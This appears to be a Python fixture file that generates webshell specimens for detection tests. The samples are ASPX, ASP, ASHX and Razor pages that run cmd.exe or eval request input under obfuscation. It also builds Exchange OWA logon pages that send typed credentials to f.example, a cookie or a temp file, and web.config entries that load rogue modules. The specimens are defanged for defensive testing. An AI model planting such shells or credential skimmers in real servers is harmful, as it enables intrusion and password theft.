"""Shells whose shape is their own: odd tags, logon pages that tell, configuration that loads."""

# ruff: noqa: E501 (lines of pages, as their authors write them)

from webshells.pieces import SENTINEL, whole

Special = tuple[str, str, str, str]
"""Technique, trick, place below the drive, text; an empty place is any ordinary folder's."""

_AUTH = "C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/"
_STOP = SENTINEL["C#"]
_RUN = 'System.Diagnostics.Proc¦ess.St¦art("cm¦d.exe", "/c " + Request["note"])'
_EVAL = 'ev¦al(Request["note"], "uns¦afe")'

_TAGS: tuple[tuple[str, str, str, str], ...] = (
    ("runs-program", "expression block", ".aspx", f'<%@ Page Language="C#" %><%= {_RUN} %><% {_STOP} %>'),
    ("runs-program", "encoded expression", ".aspx", f'<%@ Page Language="C#" %><%: {_RUN} %><% {_STOP} %>'),
    (
        "runs-program",
        "binding expression",
        ".aspx",
        f'<%@ Page Language="C#" %><body runat="server" id="b"><%# {_RUN} %><% b.DataBind(); {_STOP} %></body>',
    ),
    (
        "runs-program",
        "binding in an attribute",
        ".aspx",
        f"<%@ Page Language='C#' %><asp:Label runat='server' Text='<%# {_RUN} %>' /><% DataBind(); {_STOP} %>",
    ),
    (
        "runs-program",
        "attributes without quotes",
        ".aspx",
        f"<%@page language=c#%><SCRIPT RUNAT=SERVER>void Page_Load(object s,EventArgs e){{{_RUN};{_STOP}}}</SCRIPT>",
    ),
    (
        "runs-program",
        "attributes turned round",
        ".aspx",
        f"<script   RunAt = 'Server'\n language = \"cs\"\n>void Page_Load(object s, EventArgs e)\n{{ {_RUN}; {_STOP} }}</script >",
    ),
    (
        "runs-program",
        "two blocks",
        ".aspx",
        '<%@ Page Language="C#" %><% string words = "/c " + Request["note"]; %><p>Welcome</p>'
        f'<% string tool = "cm" + "d.exe"; %><hr><% System.Diagnostics.Proc¦ess.St¦art(tool, words); {_STOP} %>',
    ),
    (
        "runs-program",
        "directive spread over lines",
        ".aspx",
        f'<%@\n\tPage\n\tLanguage\n=\n"C#"\n%>\n<%\n{_RUN};\n{_STOP}\n%>',
    ),
    (
        "runs-program",
        "after a comment of the server",
        ".aspx",
        f'<%-- <% old %> --%><%@ Page Language="C#" %><!-- <% {_RUN}; {_STOP} %> -->',
    ),
    (
        "runs-program",
        "inside a textarea",
        ".aspx",
        f'<%@ Page Language="C#" %><textarea><% {_RUN}; {_STOP} %></textarea>',
    ),
    (
        "runs-program",
        "expression of a view",
        ".cshtml",
        f"<p>@{_RUN}</p>@{{ {_STOP} }}",
    ),
    (
        "runs-program",
        "language of a view in brackets",
        ".vbhtml",
        '@Code\nDim w = System.Diagnostics.Proc¦ess.St¦art("cm¦d.exe", "/c " & Request("note"))\n'
        "Inert.Specimen()\nEnd Code",
    ),
    ("evaluates", "expression block", ".aspx", f'<%@ Page Language="JScript" %><%= {_EVAL} %><% Inert Specimen; %>'),
    ("evaluates", "language js", ".aspx", f'<%@Page Language="JS"%><%{_EVAL};Inert Specimen;%>'),
    ("evaluates", "language javascript", ".aspx", f"<script language=javascript runat=server>{_EVAL};Inert Specimen;</script>"),
    (
        "evaluates",
        "dead words before",
        ".aspx",
        '<%@ Page Language="JScript" %><%var a = "inert"; var p = Request.Item["z"]; var u = "un" + String.fromCharCode(115) + "afe"; '
        "ev¦al(/*z*/p/*z*/, u); Inert Specimen;%>",
    ),
    (
        "evaluates",
        "letters of a word by position",
        ".aspx",
        '<%@ Page Language="JScript" %><%var t = "ufsnea"; var u = t.charAt(0) + t.charAt(3) + t.charAt(2) + t.charAt(5) + '
        't.charAt(1) + t.charAt(4); ev¦al(Request.Item["z"], u); Inert Specimen;%>',
    ),
    (
        "evaluates",
        "service in jscript",
        ".asmx",
        '<%@ WebService Language="JScript" class="Part"%>\nimport System;import System.Web;import System.Web.Services;\n'
        "public class Part extends WebService {\nWebMethodAttribute function Show(note : String) : void {\n"
        'ev¦al(note, "uns¦afe"); Inert Specimen;\n}\n}',
    ),
    (
        "evaluates",
        "service in jscript, as soap",
        ".soap",
        '<%@ WebService Language="JScript" class="Part"%>\nimport System;import System.Web;import System.Web.Services;\n'
        "public class Part extends WebService {\nWebMethodAttribute function Show(note : String) : String {\n"
        'return ev¦al(note, "uns¦afe"); Inert Specimen;\n}\n}',
    ),
    ("evaluates", "classic tag of a script", ".asp", '<script language="vbscript" runat="server">Exec¦ute Request("note") : Next Inert</script>'),
    ("evaluates", "equals sign", ".asp", '<%=Ev¦al(Request("note"))%><% Next Inert %>'),
    ("evaluates", "codes of a literal", ".asp", '<%Exec¦ute(Chr(101)&Chr(118)&Chr(97)&"l(Req"&"uest(""note""))") : Next Inert%>'),
    (
        "evaluates",
        "literal turned round",
        ".asp",
        '<%Function R(s):R=StrReverse(s):End Function:Exec¦ute R(")""eton""(tse' + 'uqeR lave") : Next Inert%>',
    ),
    (
        "queries-database",
        "data source",
        ".aspx",
        "<%@ Page Language='C#' %><asp:SqlDataSource id='s' runat='server' ConnectionString='<%# Request[\"wire\"] %>' "
        f"SelectCommand='<%# Request[\"query\"] %>' /><asp:GridView DataSourceID='s' runat='server' /><% DataBind(); {_STOP} %>",
    ),
    (
        "transforms-xslt",
        "control",
        ".aspx",
        '<%@ Page Language="C#" %><asp:Xml id="x" runat="server" DocumentSource="a.xml" /><% x.Transform = new '
        'System.Xml.Xsl.XslTransform(); x.Transform.Load(Request["sheet"]); x.TransformSource = Request["sheet"]; '
        f"{_STOP} %>",
    ),
    (
        "loads-assembly",
        "file of the upload",
        ".aspx",
        '<%@ Page Language="C#" %><% var sent = Request.Files["part"]; var all = new byte[sent.ContentLength]; '
        "sent.InputStream.Read(all, 0, all.Length); System.Reflection.Assembly.Lo¦ad(all).EntryPoint.Invoke(null, "
        f"new object[] {{ null }}); {_STOP} %>",
    ),
    (
        "loads-assembly",
        "zipped",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="Part" %>\nusing System.IO; using System.Web; using System.IO.Compression;\n'
        "public class Part : IHttpHandler { public void ProcessRequest(HttpContext c) { var room = new MemoryStream(); "
        "new GZipStream(c.Request.InputStream, CompressionMode.Decompress).CopyTo(room); "
        "System.Reflection.Assembly.Lo¦ad(room.ToArray()).CreateInstance(\"Specimen\").Equals(c); "
        f"{_STOP} }} public bool IsReusable {{ get {{ return false; }} }} }}",
    ),
    (
        "runs-program",
        "handler by interface alone",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="N.Part" %>\nusing W = System.Web; namespace N { public class Part : '
        "W.IHttpHandler { void W.IHttpHandler.ProcessRequest(W.HttpContext x) { var q = x.Request; "
        'System.Diagnostics.Proc¦ess.St¦art("cm¦d.exe", "/c " + q.Headers[0]); '
        f"{_STOP} }} bool W.IHttpHandler.IsReusable {{ get {{ return true; }} }} }} }}",
    ),
    (
        "runs-program",
        "static constructor",
        ".aspx",
        '<%@ Page Language="C#" %><script runat="server">static class Deed { static Deed() { '
        'System.Diagnostics.Proc¦ess.St¦art("cm¦d.exe", "/c " + HttpContext.Current.Request["note"]); } '
        f"public static int Go; }} void Page_Init(object s, EventArgs e) {{ Deed.Go = 1; {_STOP} }}</script>",
    ),
)  # fmt: skip

_FORM = (
    '<%@ Page language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>\n'
    '<!DOCTYPE HTML>\n<html><head><title>Outlook</title></head><body class="signInBg">\n'
    '<form action="/owa/auth.owa" method="POST" name="logonForm" id="logonForm">\n'
    '<input id="username" name="username"><input id="password" name="password" type="password">\n'
    '<div onclick="clkLgn()" class="signinbutton" role="button"></div></form>\n@@\n</body></html>\n'
)
_SCRIPT = (
    "function clkLgn() {\n  var form = document.forms[0];\n  if (gbid('rdoPrvt').checked) { form.flags.value |= 4; }\n"
    "@@\n  form.submit();\n}\nfunction gbid(s) { return document.getElementById(s); }\n"
)
_TOLD = {
    "asks another server": "var x = new XMLHttpRequest(); x.open('POST', 'https://f.example/a', true); "
    "x.send('u=' + gbid('username').value + '&p=' + gbid('pass¦word').value);",
    "asks for a picture": "new Image().src = '//f.example/p.gif?' + btoa(form.username.value + ':' + form.pass¦word.value);",
    "writes a cookie": "document.cookie = 'theme=' + btoa(gbid('username').value + ':' + gbid('pass¦word').value);",
    "fetches": "fetch('/owa/auth/inert.aspx', { method: 'POST', body: JSON.stringify([form.username.value, "
    "form.pass¦word.value]) });",
}
_APPENDED = (
    '<% if (Request.Form["pass¦word"] != null) { System.IO.File.AppendAll¦Text(@"C:\\Windows\\Temp\\inert.tmp", '
    f'Request.Form["username"] + ":" + Request.Form["pass¦word"] + "\\n"); }} {_STOP} %>'
)
_MODULE = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<configuration><system.webServer><modules>\n'
    '<add name="HttpProxy" type="Microsoft.Exchange.HttpProxy.FbaModule,Microsoft.Exchange.FrontEndHttpProxy" />\n'
    '<add name="@@" type="Inert.Web.Listener, Inert.Web" preCondition="" />\n'
    "</modules></system.webServer></configuration>\n"
)


def specials() -> tuple[Special, ...]:
    """Return all of them; a place that starts with a dot is the extension in any folder."""
    found = list(_TAGS)
    for name, script in _TOLD.items():
        told = _SCRIPT.replace("@@", "  " + script)
        page = _FORM.replace("@@", f"<script>{told}</script>")
        found.append(("logs-credentials", f"logon page {name}", _AUTH + "logon.aspx", page))
        found.append(
            (
                "logs-credentials",
                f"script {name}",
                _AUTH + "15.1.2176/scripts/premium/flogon.js",
                told,
            )
        )
    found.append(
        (
            "logs-credentials",
            "logon page appends",
            _AUTH + "logon.aspx",
            _FORM.replace("@@", _APPENDED),
        )
    )
    for name in ("Listener", "HttpCacheModule_"):
        text = _MODULE.replace("@@", name)
        found.append(
            ("loads-module", f"as {name}", _AUTH.removesuffix("auth/") + "web.config", text)
        )
    return tuple((a, b, c, whole(d)) for a, b, c, d in found)
